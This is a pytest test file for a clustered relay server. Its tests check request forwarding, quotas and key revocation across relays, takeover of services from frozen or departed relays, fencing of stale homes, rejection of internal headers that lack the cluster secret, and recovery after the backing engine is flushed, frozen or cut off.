def test_cluster_a_forwarded_prompt_is_not_kept_as_objects(cluster, path):
    relays = cluster(2)
    hand = FarHand(*relays)
    answer = in_thread(ask, relays[1], path + hand.name * (path == "/"), json.dumps({
        "model": hand.name, "messages": [{"role": "user", "content": "hi"}],
        "extra": {}}).encode())
    job, = hand.poll()["jobs"]
    job.pop("request")
    gc.collect()
    assert not [thing for thing in gc.get_objects() if type(thing) is dict and thing.get(
        "model") == hand.name and "extra" in thing]
    hand.reply(job, ["yes"], done=True)
    assert answer()[0] == 200


def test_cluster_large_bodies_do_not_wait_for_one_whose_home_has_to_be_found(cluster):
    relay, name = cluster(), name_of()
    ask(relay, "/api/services", {"name": name})
    settle, sought, found = relay.registry.settle, threading.Event(), threading.Event()

    def slowly(*args):
        sought.set()
        found.wait(SOON)
        return settle(*args)
    relay.registry.settle = slowly
    answer = in_thread(chat, relay, name, extra="x" * 70000)
    assert sought.wait(SOON) and not relay.bounds.large_bodies.taken()
    assert relay.bounds.bytes.taken > 70000            # what waits is counted
    found.set()
    assert answer()[1]["error"]["code"] == "provider_offline"
    until(lambda: not relay.bounds.bytes.taken)


def test_cluster_connections_to_a_relay_that_is_gone_are_closed(cluster):
    relays = cluster(2)
    hand = FarHand(*relays)                # which leaves a connection to the home
    home, peers = relays[0].registry.id, relays[1].peers
    (sock, _), = peers._idle[neuroengine_server.url_of(home)]
    hand.connection.close()
    relays[0].stop()
    until(lambda: sock.fileno() < 0)
    until(lambda: not peers._idle and not peers._busy)


def frozen_home(front, name):
    """Let a service have its home at a relay that reads nothing; return its id, and the socket
    that it listens on."""
    frozen = socket.create_server(("127.0.0.1", 0))
    home = "1@http://127.0.0.1:%d" % frozen.getsockname()[1]
    front.registry.homes[name.lower()] = home
    front.registry.relays |= {home}
    front.peers.answers = lambda home: False
    return home, frozen


def forward_to_frozen_home(front, name):
    """Send a prompt there that is larger than the buffers; return the client's socket, too."""
    where = frozen_home(front, name)
    return (sent(front, "/" + name, {"message": "x" * (4 << 20)}), *where)


def test_cluster_a_large_prompt_to_a_frozen_home_ends_with_its_membership(cluster, monkeypatch):
    monkeypatch.setattr(neuroengine_server, "TAKEOVER_SECONDS", 0)
    front, name = cluster(), name_of()
    ask(front, "/api/services", {"name": name})
    with front.registry.changing:          # no beat comes between
        client, home, frozen = forward_to_frozen_home(front, name)
        until(lambda: front.peers._busy.get(home))
        assert front.bounds.bytes.taken > 4000000
        front.peers.look_after({home})
        until(lambda: not front.peers._busy.get(home))
    assert client.recv(1000).startswith(b"HTTP/1.1 ")
    until(lambda: not front.bounds.bytes.taken)
    client.close(), frozen.close()


def test_cluster_a_client_that_hangs_up_while_its_home_is_frozen_is_noticed(cluster):
    front, name = cluster(), name_of()
    ask(front, "/api/services", {"name": name})
    with front.registry.changing:
        client, home, frozen = forward_to_frozen_home(front, name)
        until(lambda: front.peers._busy.get(home))
        client.close()
        until(lambda: not front.peers._busy.get(home) and not front.bounds.bytes.taken)
    frozen.close()


def test_a_relay_that_beats_again_is_not_watched_any_more(monkeypatch):
    monkeypatch.setattr(neuroengine_server, "BEAT_SECONDS", 0.01)
    peers = neuroengine_server.Peers(CLUSTER_SECRET)
    peers.answers, peers._busy["1@a"] = lambda home: True, {"a forwarded poll": True}
    peers.look_after({"1@a"})
    peers.members = frozenset({"1@a"})
    until(lambda: not peers._watched)
    assert peers._busy["1@a"]


def test_cluster_a_request_to_a_home_that_froze_while_it_came_ends(cluster, monkeypatch):
    monkeypatch.setattr(neuroengine_server, "TAKEOVER_SECONDS", 0)
    front, name = cluster(), name_of()
    ask(front, "/api/services", {"name": name})
    with socket.create_connection(front.server_address[:2], SOON) as client:
        with front.registry.changing:
            home, frozen = frozen_home(front, name)
            client.sendall(b"POST /%s HTTP/1.1\r\nHost: localhost\r\nContent-Length: 2\r\n\r\n{"
                           % name.encode())
            until(lambda: front.bounds.waiting.taken)  # it will be forwarded
        until(lambda: home not in front.registry.relays)
        client.sendall(b"}")
        assert client.recv(1000).startswith(b"HTTP/1.1 ")
    frozen.close()


def test_cluster_a_request_that_is_answered_here_after_all_leaves_no_memory_taken(cluster):
    relay, name = cluster(), name_of()
    ask(relay, "/api/services", {"name": name})
    relay.peers.answers = lambda home: True            # until something is to be sent there
    relay.registry.homes[name.lower()] = "1@http://127.0.0.1:%d" % free_port()
    assert ask(relay, "/v1/models/" + name, X_Long="x" * 4000)[0] == 200
    assert relay.registry.counts["forwarded"] == 1
    until(lambda: not relay.bounds.bytes.taken)


def test_cluster_a_name_is_registered_once_however_many_relays_are_asked(cluster):
    relays = cluster(3)
    for _ in range(5):
        name = name_of()
        answers = [in_thread(ask, relay, "/api/services", {"name": name})
                   for relay in relays * 3]
        assert sorted(answer()[0] for answer in answers) == [201] + [409] * 8


def test_cluster_a_registration_may_be_repeated_at_another_relay(cluster):
    relays, name = cluster(2), name_of()
    first, again = (ask(relay, "/api/services", {"name": name}, Idempotency_Key="once")
                    for relay in relays)
    assert first[0] == again[0] == 201 and first[1]["key"] == again[1]["key"]


def test_cluster_keys_quotas_and_revocation_are_exact_at_every_relay(cluster):
    relays = cluster(3)
    hand = FarHand(relays[0], relays[1], workers=8)
    status, key, _ = ask(relays[2], "/api/services/%s/keys" % hand.name, {
        "label": "guest", "requests_per_day": 5}, Authorization="Bearer " + hand.key)
    assert status == 201
    answers = [in_thread(ask, relay, "/" + hand.name, {"message": "hi"},
                         Authorization="Bearer " + key["key"]) for relay in relays * 3]
    hand.answer(5)
    assert sorted(answer()[0] for answer in answers) == [200] * 5 + [429] * 4
    ask(relays[1], "/api/services/" + hand.name, {"private": True}, "PATCH",
        Authorization="Bearer " + hand.key)
    assert ask(relays[1], "/api/services/%s/keys/%s" % (hand.name, key["id"]),
               method="DELETE", Authorization="Bearer " + hand.key)[0] == 200
    assert [ask(relay, "/" + hand.name, {"message": "hi"}, Authorization="Bearer "
                + key["key"])[0] for relay in relays] == [401] * 3


def test_cluster_what_a_home_takes_over_undoes_no_quota_that_is_counted_here():
    quotas = neuroengine_server.Quotas(lambda: 1000.0)
    quotas.take("guest", 2, "prompts")
    saved = list(quotas.take_changed().items())
    quotas.take("guest", 2, "prompts")
    quotas.restore(saved)
    with pytest.raises(RelayError, match="prompts"):
        quotas.take("guest", 2, "prompts")


def test_cluster_an_idempotency_key_at_all_relays_is_one_job(cluster):
    relays = cluster(3)
    hand = FarHand(relays[0], relays[1], workers=8)
    answers = [in_thread(ask, relay, "/" + hand.name, {"message": "hi"},
                         Idempotency_Key="one") for relay in relays * 2]
    job = hand.next_job()
    until(lambda: len(relays[0].broker._jobs[job["job"]].readers) == 6)
    hand.reply(job, ["once"], done=True)
    assert {answer()[1]["reply"] for answer in answers} == {"once"}
    assert relays[0].broker.counts["jobs"] == 1


def test_cluster_no_request_of_a_prompt_calls_the_engine(cluster, engine, monkeypatch):
    relays = cluster(2)
    hand, calls, callers = FarHand(*relays), neuroengine_server.Engine.calls, []

    def noted(self, *commands):
        callers.extend(frame.name for frame in traceback.extract_stack())
        return calls(self, *commands)
    monkeypatch.setattr(neuroengine_server.Engine, "calls", noted)
    monitor = subprocess.Popen(
        [ENGINE_PROGRAM.replace("-server", "-cli"), "-s", engine.folder + "/s", "monitor"],
        stdout=subprocess.PIPE)
    try:
        assert monitor.stdout.readline() == b"OK\n"
        for entry in relays * 5:
            answer = in_thread(ask, entry, "/" + hand.name, {"message": "Xanadu"})
            hand.reply(hand.next_job(), ["Kubla ", "Khan"], done=True)
            assert answer()[0] == 200
        until(lambda: "save" in callers and "_beat" in callers)     # the threads' own calls
        engine.call("ECHO", "the end")
        seen = b"".join(itertools.takewhile(
            lambda line: b"the end" not in line, iter(monitor.stdout.readline, b"")))
    finally:
        monitor.kill()
        monitor.wait()
        monitor.stdout.close()
    assert "_dispatch" not in callers
    files = [os.path.join(folder, name) for folder, _, names in os.walk(engine.folder)
             for name in names if name != "s"]
    for data in [seen] + [open(path, "rb").read() for path in files]:
        assert b"Xanadu" not in data and b"Kubla" not in data


@pytest.mark.parametrize("path", ["/", "/healthz", "/metrics", "/v1/models", "/nothing/here",
                                  "/api/services", "/provider/x/poll"])
def test_cluster_internal_headers_need_the_secret(cluster, path):
    relay = cluster()
    for headers in ({"X_Relay": "wrong"}, {"X_Relay_For": "local"},
                    {"X_Relay": "wrong", "X_Relay_For": "127.0.0.1"}):
        for method in ("GET", "POST", "OPTIONS"):
            status, body, _ = ask(relay, path, b"{}", method, **headers)
            assert status == 403, (method, headers)


def test_cluster_a_request_is_forwarded_once_at_most(cluster):
    relays = cluster(2)
    hand = FarHand(*relays)
    forwarded = relays[1].registry.counts["forwarded"]
    status, answer, headers = ask(relays[1], "/" + hand.name, {"message": "hi"},
                                  X_Relay=CLUSTER_SECRET, X_Relay_For="local")
    assert (status, answer["error"]) == (503, "shutting_down")
    assert headers["X-Relay-Home"] == "no" and (
        relays[1].registry.counts["forwarded"] == forwarded)


@pytest.mark.parametrize("headers", [
    {"X_%d" % n: "1" for n in range(62)}, {"X_Long": "x" * 16250}])
def test_cluster_a_head_that_the_home_accepts_reaches_it_through_any_relay(cluster, headers):
    relays = cluster(2)
    hand = FarHand(*relays)
    for relay in relays:
        assert ask(relay, "/v1/models/" + hand.name, **headers)[0] == 200
        assert ask(relay, "/v1/models/" + hand.name, X_More="1" * 100, **headers)[0] in (400, 431)


def test_cluster_only_after_a_move_a_prompt_waits_for_its_provider(cluster):
    relays, name = cluster(2), name_of()
    ask(relays[0], "/api/services", {"name": name})
    assert ask(relays[1], "/" + name, {"message": "hi"})[1]["error"] == "service_offline"
    relays.pop().stop()
    waiting = []

    def waits():                           # an engine that is held up may refuse it at first
        if not waiting or neuroengine_server.is_ready(waiting[-1], selectors.EVENT_READ, 0):
            waiting.append(sent(relays[0], "/" + name, {"message": "hi"}))
        return [service.queue.size for service in relays[0].broker.services()] == [1]
    until(waits)
    for sock in waiting:
        sock.close()


def test_cluster_limits_and_turns_are_those_of_the_client_behind_the_other_relay(cluster):
    relays = cluster(2, max_prompts_per_minute=2)
    hand = FarHand(*relays, workers=8)
    headers = {"X_Relay": CLUSTER_SECRET}

    def asked(address):
        return ask(relays[0], "/" + hand.name, {"message": "hi"}, X_Relay_For=address, **headers)
    answers = [in_thread(asked, address) for address in
               ("203.0.113.1",) * 3 + ("203.0.113.2", "local", "local", "local")]
    hand.answer(6)
    assert sorted(answer()[0] for answer in answers) == [200] * 6 + [429]


def test_cluster_a_client_on_the_machine_of_a_relay_is_answered_by_homes_elsewhere(cluster):
    home, front = cluster(2)
    home.proxies = [ipaddress.ip_network("127.0.0.0/8")]       # so that the client counts as remote
    hand = FarHand(home, home)
    assert ask(front, "/v1/models/" + hand.name)[0] == 200


def test_cluster_wrong_keys_count_at_all_relays_together(cluster):
    relays = cluster(2, max_wrong_keys_per_minute=4)
    name = name_of()
    ask(relays[0], "/api/services", {"name": name})
    statuses = [ask(relays[0], "/api/services/" + name, Authorization="Bearer no",
                    X_Relay=CLUSTER_SECRET, X_Relay_For="203.0.113.1")[0] for _ in range(3)]
    relays[1].bounds.wrong_keys.take_by_address("203.0.113.1", 4, 60, "wrong keys")
    statuses.append(ask(relays[0], "/api/services/" + name, Authorization="Bearer no",
                        X_Relay=CLUSTER_SECRET, X_Relay_For="203.0.113.1")[0])
    assert statuses == [401] * 3 + [429]


def test_cluster_what_is_refused_counts_for_none_of_the_networks_of_its_caller(engine):
    def take(*bounds):                     # each time at another relay
        neuroengine_server.EngineRates(neuroengine_server.Engine(engine.url), "kind:").take_all(
            bounds, 60, "tries")
    take(("/64", 3), ("/48", 1))
    for _ in range(3):
        with pytest.raises(RelayError, match="Too many tries: 1 in"):
            take(("/64", 3), ("/48", 1))
    for _ in range(2):
        take(("/64", 3))
    with pytest.raises(RelayError, match="Too many tries: 3 in"):
        take(("/64", 3))


def test_cluster_without_an_engine_yet_waits_for_it(engine, cluster):
    engine.kill()
    relay = neuroengine_server.ClusterRelay(
        "127.0.0.1", 0, engine=neuroengine_server.Engine(engine.url), secret=CLUSTER_SECRET)
    relay.start()
    try:
        assert ask(relay, "/healthz")[0] == 503
        assert ask(relay, "/Any", {"message": "hi"})[1]["error"] == "relay_busy"
        assert chat(relay, "Any")[0] == 503
        assert ask(relay, "/api/services", {"name": "Any"})[1]["error"] == "relay_busy"
        engine.start()
        until(lambda: ask(relay, "/healthz")[0] == 200)
        assert ask(relay, "/api/services", {"name": "Any"})[0] == 201
    finally:
        relay.stop()


@pytest.mark.parametrize("how", ["killed", "frozen"])
def test_cluster_prompts_go_on_while_the_engine_is_away(cluster, engine, how):
    relays = cluster(2)
    hand = FarHand(*relays)
    engine.kill() if how == "killed" else engine.process.send_signal(signal.SIGSTOP)
    until(lambda: relays[0].registry._silence and relays[1].registry._silence)
    relays[0].registry.sure_until = relays[1].registry.sure_until = 0      # long ago
    for relay in relays:
        began = time.monotonic()
        answer = in_thread(ask, relay, "/" + hand.name, {"message": "hi"})
        hand.reply(hand.next_job(), ["yes"], done=True)
        assert answer()[0] == 200 and time.monotonic() - began < patient(1)
        assert ask(relay, "/api/services", {"name": "New"})[1]["error"] == "relay_busy"
        for change in ({"private": True}, {"name": "Renamed"}):
            _, answer, headers = ask(relay, "/api/services/" + hand.name, change, "PATCH",
                                     Authorization="Bearer " + hand.key)
            assert (answer["error"], headers["Retry-After"]) == ("relay_busy", "2")
        assert ask(relay, "/healthz")[0] == 200
    engine.start() if how == "killed" else engine.process.send_signal(signal.SIGCONT)
    until(lambda: ask(relays[1], "/api/services", {"name": "New"})[0] == 201)
    assert hand.name.lower() in relays[0].registry.records
    assert relays[0].registry.homes[hand.name.lower()] == relays[0].registry.id


def test_cluster_an_engine_that_lost_its_data_gets_it_back(cluster, engine):
    relays = cluster(2)
    hand = FarHand(*relays)
    with relays[0].registry.changing:      # the home is the last to notice
        engine.call("FLUSHALL")
        until(lambda: relays[1].registry._remembered)
        assert hand.name.lower() in relays[1].registry.records
    until(lambda: engine.call("HGET", "{neuroengine}:homes", hand.name.lower())
          == relays[0].registry.id)
    answer = in_thread(ask, relays[1], "/" + hand.name, {"message": "hi"})
    hand.reply(hand.next_job(), ["yes"], done=True)
    assert answer()[0] == 200
    assert ask(relays[1], "/api/services", {"name": hand.name})[0] == 409


def test_cluster_what_others_remember_is_written_back_after_the_homes(cluster, engine, monkeypatch):
    monkeypatch.setattr(neuroengine_server, "RESTORE_SECONDS", 0.1)
    relays, name = cluster(2), name_of()
    ask(relays[0], "/api/services", {"name": name})
    until(lambda: name.lower() in relays[1].registry.records)
    relays.pop(0).stop()
    engine.call("FLUSHALL")
    until(lambda: engine.call("HEXISTS", "{neuroengine}:services", name.lower()))


def test_cluster_nobody_gets_a_name_that_the_engine_has_lost(cluster, engine, monkeypatch):
    monkeypatch.setattr(neuroengine_server, "RESTORE_SECONDS", 60)
    relay, name = cluster(), name_of()
    key = ask(relay, "/api/services", {"name": name})[1]["key"]        # it has no home
    hand = FarHand(relay, relay)
    engine.call("FLUSHALL")
    assert ask(relay, "/api/services", {"name": name})[1]["error"] == "name_taken"
    assert ask(relay, "/api/services/" + hand.name, {"name": name}, "PATCH",
               Authorization="Bearer " + hand.key)[1]["error"] == "name_taken"
    until(lambda: relay.registry._remembered)
    relay.registry._restore_at = 0
    until(lambda: ask(relay, "/api/services/" + name, Authorization="Bearer " + key)[0] == 200)


def test_cluster_a_change_waits_for_the_engines_replica(cluster, engine, tmp_path):
    relay = cluster()
    port = free_port()
    engine.call("CONFIG", "SET", "port", str(port))
    replica = subprocess.Popen([ENGINE_PROGRAM, "--port", str(free_port()), "--dir", str(tmp_path),
                                "--save", "", "--replicaof", "127.0.0.1", str(port)],
                               stdout=subprocess.DEVNULL)
    try:
        until(lambda: relay.registry.engine.replicas, 60)
        until(lambda: ask(relay, "/api/services", {"name": name_of()})[0] == 201, 60)
        name = name_of()
        key = ask(relay, "/api/services", {"name": name})[1]["key"]
        replica.send_signal(signal.SIGSTOP)
        bearer, name, path = {"Authorization": "Bearer " + key}, name_of(), "/api/services/" + name
        assert ask(relay, path, {"new_key": True}, "PATCH", **bearer)[1]["error"] == "relay_busy"
        assert ask(relay, path, **bearer)[0] == 200
        assert ask(relay, "/api/services", {"name": name})[1]["error"] == "relay_busy"
        replica.send_signal(signal.SIGCONT)
        until(lambda: ask(relay, "/api/services", {"name": name})[0] == 201, 60)
    finally:
        replica.kill()
        replica.wait()


def test_cluster_a_replica_that_is_still_syncing_holds_up_no_change(engine, engine_store):
    engine.call("CONFIG", "SET", "repl-diskless-sync", "yes")
    engine.call("CONFIG", "SET", "repl-diskless-sync-delay", "60")
    with socket.socket(socket.AF_UNIX) as replica:
        replica.connect(engine.folder + "/s")
        replica.sendall(b"REPLCONF capa eof\r\n")      # else the engine forks at once
        assert replica.recv(100) == b"+OK\r\n"
        replica.sendall(b"PSYNC ? -1\r\n")
        until(lambda: "state=wait" in engine.call("INFO", "replication"))
        assert engine_store.engine.run(neuroengine_server.BEAT, "1@a", 1000)[2] == 0


def test_cluster_a_relay_that_is_home_no_more_cannot_write(cluster, engine):
    relays = cluster(2)
    hand = FarHand(*relays)
    registry, service = relays[0].registry, relays[0].broker.find(hand.name)
    with registry.changing:                # it is stopped, and its membership expires
        engine.call("DEL", "{neuroengine}:relay:" + registry.id)
        until(lambda: relays[1].registry._claim(hand.name.lower(), False))
        with pytest.raises(RelayError) as refused:
            registry.change(service, comment="from the past")
        assert refused.value.name == "shutting_down"
        registry.store.fenced = 0
        with pytest.raises(RelayError):
            registry.store.save([service])
        assert registry.store.fenced == 1
    until(lambda: not relays[0].broker.services())
    assert "from the past" not in engine.call("HGET", "{neuroengine}:services",
                                              hand.name.lower())
    with pytest.raises(AssertionError, match="session_unknown"):
        hand.poll()


@pytest.fixture
def engine_store(engine):
    """What a command writes to: an EngineStore, with one service."""
    store = neuroengine_server.EngineStore(neuroengine_server.Engine(engine.url))
    store.add(Service("One", digest("key")))
    return store


def test_cluster_a_home_is_only_taken_over_from_a_relay_that_is_gone(engine, engine_store):
    engine_store.add(Service("Two", ""))

    def member(relay, milliseconds):
        engine.call("SET", "{neuroengine}:relay:" + relay, "url", "PX", milliseconds)

    def claim(relay, name, refused=0, lasting=3000):
        return engine_store.engine.run(
            neuroengine_server.CLAIM, relay, name, refused, lasting, 500)[:2]
    member("1@a", 60000), member("2@b", 60000)
    assert claim("3@c", "one") == ["late"]             # it is no member any more
    assert claim("1@a", "one") == claim("1@a", "two") == ["home", "nobody"]
    assert claim("2@b", "one") == claim("2@b", "one", refused=1) == ["held", "1@a"]
    engine.call("DEL", "{neuroengine}:relay:1@a")      # or did the engine's restart do that?
    assert claim("2@b", "one", lasting=10**6) == ["young", "1@a"]
    member("1@a", 60000)
    until(lambda: int(re.search("uptime_in_seconds:([0-9]+)", engine.call(
        "INFO", "server"))[1]) >= 4)                   # those that live have beaten by then
    member("1@a", 2400)                                # it has missed a beat
    assert claim("2@b", "one", refused=1) == ["home", "1@a"]
    assert claim("2@b", "two") == ["home", "1@a"]      # as the first has shown that it is gone


def test_cluster_a_relay_that_is_not_the_home_neither_renames_nor_gives_up(
        engine, engine_store):
    service, = engine_store.load()
    engine.call("HSET", "{neuroengine}:homes", "one", "1@a")
    engine_store.home = "2@b"
    with pytest.raises(RelayError) as refused:
        engine_store.rename(service, "Other", False)
    assert refused.value.name == "shutting_down"
    engine_store.engine.run(neuroengine_server.LEAVE, "2@b", "one")
    assert engine.call("HGET", "{neuroengine}:homes", "one") == "1@a"
    assert [service.name for service in engine_store.load()] == ["One"]


def test_cluster_a_process_on_an_address_ends_the_membership_of_the_one_before(
        engine, engine_store):
    first, second = (engine_store.engine.run(neuroengine_server.JOIN, url, 60000, "born", "")
                     for url in ["http://a"] * 2)
    assert first != second and [engine.call("EXISTS", "{neuroengine}:relay:" + relay)
                                for relay in (first, second)] == [0, 1]


def test_cluster_reserved_names_and_used_invitations_register_nothing(engine_store):
    service, = engine_store.load()
    engine_store.remove(service, reserve=True)
    engine_store.invite("code", 1)
    for arguments in ((), (None, digest("another key"))):
        with pytest.raises(RelayError, match="reserved"):
            engine_store.add(Service("One", ""), *arguments)
    engine_store.add(Service("One", ""), "code", digest("key"))
    with pytest.raises(RelayError, match="used up"):
        engine_store.add(Service("Two", ""), "code")
    assert [service.name for service in engine_store.load()] == ["One"]


def fail_after_changes(store):
    """Let the engine of a store make each change, and then fail, as if its replica hung."""
    change = store.engine.change

    def unconfirmed(*arguments):
        assert change(*arguments) == "ok"
        raise neuroengine_server.EngineError("no replica has it")
    store.engine.change = unconfirmed


TABLES = ("services", "homes", "invites", "reserved")


def test_cluster_a_registration_that_failed_uses_nothing_up(engine_store):
    service, = engine_store.load()
    engine_store.remove(service, reserve=True)
    engine_store.invite("code", 1)
    before = [engine_store.table(name) for name in TABLES]
    fail_after_changes(engine_store)
    with pytest.raises(neuroengine_server.EngineError):
        engine_store.add(Service("One", ""), "code", digest("key"))
    assert [engine_store.table(name) for name in TABLES] == before


@pytest.mark.parametrize("edit", [
    lambda store, service: store.change(service, key_digest="lost"),
    lambda store, service: store.rename(service, "Two", True),
    lambda store, service: store.rename(service, "Two", True, key_digest="lost"),
    lambda store, service: store.rename(service, "ONE", False),
    lambda store, service: store.add_key(service, neuroengine_server.AccessKey(
        "i", "d", "", 0, *[None] * 5))])
@pytest.mark.parametrize("twice", [False, True])
def test_cluster_a_change_that_failed_is_not_in_force(home_store, edit, twice):
    home_store.engine.call("HSET", "{neuroengine}:reserved", "zero", digest("key"))
    service, = home_store.load()
    before = [home_store.table(name) for name in TABLES]
    fail_after_changes(home_store)
    run = home_store.engine.run
    if twice:                              # to take it back is not confirmed either
        home_store.engine.run = home_store.engine.change
    with pytest.raises(neuroengine_server.EngineError):
        edit(home_store, service)
    home_store.engine.run = run
    home_store.withdraw()
    assert [home_store.table(name) for name in TABLES] == before


def test_cluster_what_a_relay_remembers_replaces_nothing_newer(engine_store):
    old = neuroengine_server.record_of(Service("One", "", comment="old"))
    engine_store.engine.run(neuroengine_server.RESTORE, "1@a", "one", old, "{}")
    service, = engine_store.load()
    assert service.comment == "" and not engine_store.table("homes")


@pytest.fixture
def home_store(engine, engine_store):
    """The same for a relay that is home to that service."""
    engine_store.home = "1@a"
    engine.call("HSET", "{neuroengine}:homes", "one", "1@a")
    return engine_store


@pytest.mark.parametrize("edit", [
    lambda store, service: store.change(service, operator="Ann"),
    lambda store, service: store.rename(service, "Two", False, operator="Ann")])
def test_cluster_two_changes_of_a_service_at_once_are_both_kept(home_store, edit):
    store, (service,) = home_store, home_store.load()
    change, others = store.engine.change, [{"comment": "by another"}]

    def after_another(script, *arguments):
        while others:
            store.change(service, **others.pop())
        return change(script, *arguments)
    store.engine.change = after_another
    edit(store, service)
    stored, = store.load()
    assert (stored.operator, stored.comment) == ("Ann", "by another")


def test_cluster_a_rename_may_be_sent_twice(home_store):
    service, = home_store.load()
    change = home_store.engine.change
    home_store.engine.change = lambda *a: change(*a) and change(*a)    # the reply was lost
    home_store.rename(service, "Two", True)
    assert [service.name for service in home_store.load()] == ["Two"]
    assert home_store.table("reserved") == {"one": digest("key")}


@pytest.mark.parametrize("edit", [
    lambda store, service: store.change(service, key_digest="new"),
    lambda store, service: store.rename(service, "Two", True, key_digest="new")])
def test_cluster_old_names_are_reserved_for_the_newest_key_of_their_service(home_store, edit):
    for name, key in (("zero", "key"), ("other", "another")):
        home_store.engine.call("HSET", "{neuroengine}:reserved", name, digest(key))
    edit(home_store, *home_store.load())
    reserved = home_store.table("reserved")
    assert reserved.pop("one", "new") == reserved.pop("zero") == "new"
    assert reserved == {"other": digest("another")}


def test_cluster_a_revoked_key_stays_revoked_if_its_service_moves_at_that_moment(cluster):
    relays = cluster(2)
    hand = FarHand(*relays)
    registry, service = relays[0].registry, relays[0].broker.find(hand.name)
    bearer = {"Authorization": "Bearer " + hand.key}
    path = "/api/services/%s/keys" % hand.name
    key = ask(relays[0], path, {"label": "guest"}, **bearer)[1]
    with registry.changing:
        registry.engine.run(neuroengine_server.LEAVE, registry.id, hand.name.lower())
        until(lambda: relays[1].registry._claim(hand.name.lower(), False))
        assert registry.revoke_key(service, key["id"])
    until(lambda: ask(relays[1], path, **bearer)[1]["keys"] == [])


def test_cluster_a_late_relay_asks_before_it_acts_as_home(cluster, engine):
    relays = cluster(2)
    hand = FarHand(*relays)
    registry = relays[0].registry
    with registry.changing:                # so no beat comes between
        engine.call("DEL", "{neuroengine}:relay:" + registry.id)
        until(lambda: relays[1].registry._claim(hand.name.lower(), False))
        registry.sure_until = registry._beat_at = 0
        with pytest.raises(neuroengine_server.Elsewhere):
            relays[0].broker.find(hand.name)


def test_cluster_a_relay_is_sure_to_be_home_no_longer_than_it_is_a_member(cluster, engine):
    registry = cluster().registry
    with registry.changing:                # so no beat comes between
        left = engine.call("PTTL", "{neuroengine}:relay:" + registry.id) / 1000
        assert registry.sure_until - time.monotonic() <= max(left, 0) + 0.01


def test_cluster_a_home_that_is_only_cut_off_from_the_engine_stays_home(cluster, engine):
    relays = cluster(2)
    hand = FarHand(*relays)
    relays[0].registry.engine._silent_until = math.inf      # cut
    engine.call("DEL", "{neuroengine}:relay:" + relays[0].registry.id)
    until(lambda: relays[0].registry.id not in relays[1].registry.relays)
    answer = in_thread(ask, relays[1], "/" + hand.name, {"message": "hi"})
    hand.reply(hand.next_job(), ["yes"], done=True)
    assert answer()[0] == 200 and relays[1].registry.counts["claims"] == 0
    relays[0].registry.engine._silent_until = 0


def test_cluster_a_home_that_is_cut_off_hears_from_the_others_that_one_took_over(cluster, engine):
    relays = cluster(2)
    hand = FarHand(relays[0], relays[0])
    cut, name = relays[0].registry, hand.name.lower()
    cut.engine._silent_until = math.inf
    engine.call("DEL", "{neuroengine}:relay:" + cut.id)
    assert until(lambda: relays[1].registry._claim(name, False))   # it did not answer, either
    until(lambda: cut.homes[name] == relays[1].registry.id)
    assert not relays[0].broker.services() and "homes" not in cut.introduction(True)
    hand.session = hand.call("login")["session"]       # at the new home
    answer = in_thread(ask, relays[1], "/" + hand.name, {"message": "hi"})
    hand.reply(hand.next_job(), ["yes"], done=True)
    assert answer()[0] == 200
    cut.engine._silent_until = 0


@pytest.mark.parametrize("how, error", [("moved", "shutting_down"), ("deleted", "service_unknown")])
def test_cluster_a_prompt_is_refused_if_its_service_left_while_it_came(cluster, how, error):
    relay, _ = cluster(2)
    hand = FarHand(relay, relay)
    find, registry = relay.broker.find, relay.registry

    def find_what_leaves(name):
        service = find(name)
        if how == "deleted":
            registry.delete(service)
        else:                              # and comes back
            with registry.changing:
                registry._leave([service])
                registry.settle(name.lower())
        return service
    relay.broker.find = find_what_leaves
    assert ask(relay, "/" + hand.name, {"message": "hi"})[1]["error"] == error


def test_cluster_a_stopping_relay_gives_its_homes_up(cluster):
    relays = cluster(2)
    hand = FarHand(*relays)
    answer = in_thread(ask, relays[1], "/" + hand.name, {"message": "hi"})
    job = hand.next_job()
    stopped = in_thread(relays[0].stop, 5)
    until(lambda: relays[0].broker.draining)
    hand.reply(job, ["whole"], done=True)
    assert answer()[1]["reply"] == "whole"
    stopped()
    hand.session, hand.running = hand.call("login")["session"], []
    answer = in_thread(ask, relays[1], "/" + hand.name, {"message": "hi"})
    hand.reply(hand.next_job(), ["again"], done=True)
    assert answer()[1]["reply"] == "again"
    assert relays[1].broker.counts["jobs"] == 1


@pytest.mark.parametrize("entry", [0, 1, 2])
def test_cluster_new_prompts_wait_until_a_stopping_relay_gives_their_home_up(cluster, entry):
    relays = cluster(3)
    hand = FarHand(*relays[:2])
    running = in_thread(ask, relays[1], "/" + hand.name, {"message": "first"})
    job = hand.next_job()
    stopped = in_thread(relays[0].stop, SOON)
    until(lambda: relays[0].broker.draining)
    waiting = in_thread(ask, relays[entry], "/" + hand.name, {"message": "second"})
    until(lambda: relays[0].peers._held)
    relays[0].broker.passes_on_until = 0   # for those that come later
    if entry == 0:
        assert ask(relays[0], "/" + hand.name, {"message": "third"})[0] == 503
    hand.reply(job, ["whole"], done=True)
    assert running()[1]["reply"] == "whole"

    def login():
        with contextlib.suppress(AssertionError):
            return hand.call("login")["session"]
    hand.session, hand.running = until(login), []
    hand.reply(hand.next_job(), ["moved"], done=True)
    assert waiting()[:2] == (200, dict(waiting()[1], reply="moved"))
    stopped()


def test_cluster_a_stopping_relay_passes_answers_on_to_their_end(cluster):
    relays = cluster(2)
    hand = FarHand(relays[0], relays[0])
    sock = sent(relays[1], "/" + hand.name, {"message": "hi", "stream": True})
    job = hand.next_job()
    hand.reply(job, ["a"])
    stopped = in_thread(relays[1].stop, SOON)
    until(lambda: relays[1].broker.draining)
    hand.reply(job, ["b"], at=1, done=True)
    assert [record.get("items") for record in records_of(sock) if "items" in record] == [
        ["a"], ["b"]]
    stopped()


def test_cluster_a_stopping_relay_forwards_no_new_prompts_after_some_seconds(cluster,
                                                                             monkeypatch):
    relays = cluster(2)
    hand = FarHand(*relays)
    relays[1].broker.drain()
    answer = in_thread(ask, relays[1], "/" + hand.name, {"message": "hi"})
    hand.reply(hand.next_job(), ["yes"], done=True)
    assert answer()[0] == 200
    monkeypatch.setattr(relays[1].broker, "passes_on_until", 0)
    assert ask(relays[1], "/" + hand.name, {"message": "hi"})[1]["error"] == "shutting_down"
    assert hand.call("poll", session=hand.session, running=[], timeout=0)["jobs"] == []


@pytest.mark.skipif(not hasattr(os, "sched_setaffinity"), reason="Linux has it")
def test_relays_on_ports_in_a_row_run_on_different_cores(monkeypatch):
    cores = []
    monkeypatch.setattr(sys, "_is_gil_enabled", lambda: True, raising=False)
    monkeypatch.setattr(os, "sched_getaffinity", lambda pid: {7, 2, 5})
    monkeypatch.setattr(os, "sched_setaffinity", lambda pid, chosen: cores.extend(chosen))
